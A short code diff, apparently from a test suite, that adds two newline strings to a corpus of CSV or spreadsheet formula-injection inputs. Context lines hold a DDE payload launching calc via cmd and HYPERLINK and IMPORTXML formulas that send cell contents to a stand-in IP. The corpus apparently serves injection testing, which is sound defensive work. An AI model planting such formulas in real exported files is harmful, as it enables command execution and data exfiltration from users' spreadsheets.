@@ -47,6 +47,8 @@ CORPUS = [
     "\tx",
     "\rx",
     "\nx",
+    "\n",
+    "'\n",
     "=cmd|'/c calc'!A0",
     '=HYPERLINK("http://192.0.2.1/"&A1,"点这里")',
     '=IMPORTXML(CONCAT("http://192.0.2.1/",A1),"//a")',
